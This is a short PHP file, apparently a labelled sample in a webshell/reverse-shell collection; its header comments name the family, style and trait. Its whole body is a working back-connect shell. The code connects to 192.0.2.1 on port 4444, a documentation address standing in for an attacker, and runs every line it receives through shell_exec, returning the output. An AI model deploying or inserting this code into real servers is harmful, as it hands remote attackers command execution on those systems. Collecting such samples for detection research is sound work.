<?php
// Family: webshell/reverse-shell
// Style: back-connect loop that names no shell binary: each line read from the socket is run
// Trait: $cmd = trim(fgets($s)) then shell_exec($cmd) over an fsockopen connection (to 192.0.2.1, a documentation address)
$s = @fsockopen('192.0.2.1', 4444, $errno, $errstr, 5);
if ($s) {
	fputs($s, "ready\n");
	while (!feof($s)) {
		$cmd = trim(fgets($s, 1024));
		fputs($s, (string)shell_exec($cmd));
	}
	fclose($s);
}
